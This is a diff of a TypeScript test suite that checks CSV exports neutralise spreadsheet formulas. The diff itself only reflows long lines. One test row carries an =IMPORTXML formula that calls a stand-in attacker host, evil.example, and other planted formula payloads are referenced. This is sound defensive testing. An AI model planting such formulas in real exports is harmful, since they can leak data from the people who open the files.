@@ -42,7 +42,8 @@ describe('CSV exports neutralise spreadsheet formulas', () => {
     // Every row has a bad e-mail, so every row (and its planted cells) lands in the report.
     const quoted = (cells: string[]) => cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',');
     const lines = [quoted(['Full Name', 'Email', 'Phone', '=IMPORTXML("http://evil.example","//a")'])];
-    for (const [i, text] of PLANTED.entries()) lines.push(quoted([text, `@not-an-email-${i}`, '-2+3', PLANTED[(i + 1) % PLANTED.length]]));
+    for (const [i, text] of PLANTED.entries())
+      lines.push(quoted([text, `@not-an-email-${i}`, '-2+3', PLANTED[(i + 1) % PLANTED.length]]));
     const upload = await uploadCsv(testApp, campaign.owner.accessToken, campaign.campaignId, `${lines.join('\n')}\n`);
     expect(upload.status).toBe(202);
     const status = await waitForImport(testApp, campaign.owner.accessToken, upload.body.importId as string);
@@ -77,7 +78,8 @@ describe('CSV exports neutralise spreadsheet formulas', () => {
         provider: 'Zoom Phone',
       })),
     );
-    for (const [i, id] of ids.entries()) await saveNotes(testApp.platform, agent.user, id.toHexString(), PLANTED[(i + 1) % PLANTED.length]);
+    for (const [i, id] of ids.entries())
+      await saveNotes(testApp.platform, agent.user, id.toHexString(), PLANTED[(i + 1) % PLANTED.length]);
 
     const report = await exported('/api/calls/export.csv', agent.accessToken);
     expect(report).toHaveLength(PLANTED.length + 1);
@@ -86,11 +88,19 @@ describe('CSV exports neutralise spreadsheet formulas', () => {
 
   it('GET /api/admin/waitlist/export.csv: what people typed into the waitlist form', async () => {
     for (const [i, text] of PLANTED.entries()) {
-      await joinWaitlist(testApp.platform, { name: text, email: `planted${i}@example.com`, contact: PLANTED[(i + 2) % PLANTED.length], campaignInterest: 'Other' });
+      await joinWaitlist(testApp.platform, {
+        name: text,
+        email: `planted${i}@example.com`,
+        contact: PLANTED[(i + 2) % PLANTED.length],
+        campaignInterest: 'Other',
+      });
     }
     const report = await exported('/api/admin/waitlist/export.csv', admin.accessToken);
     expect(report.length).toBeGreaterThan(PLANTED.length);
     // The form trims what people type, so the tab-prefixed one arrives as a bare formula.
-    expectNeutralised(report, PLANTED.map((text) => text.trim()));
+    expectNeutralised(
+      report,
+      PLANTED.map((text) => text.trim()),
+    );
   });
 });
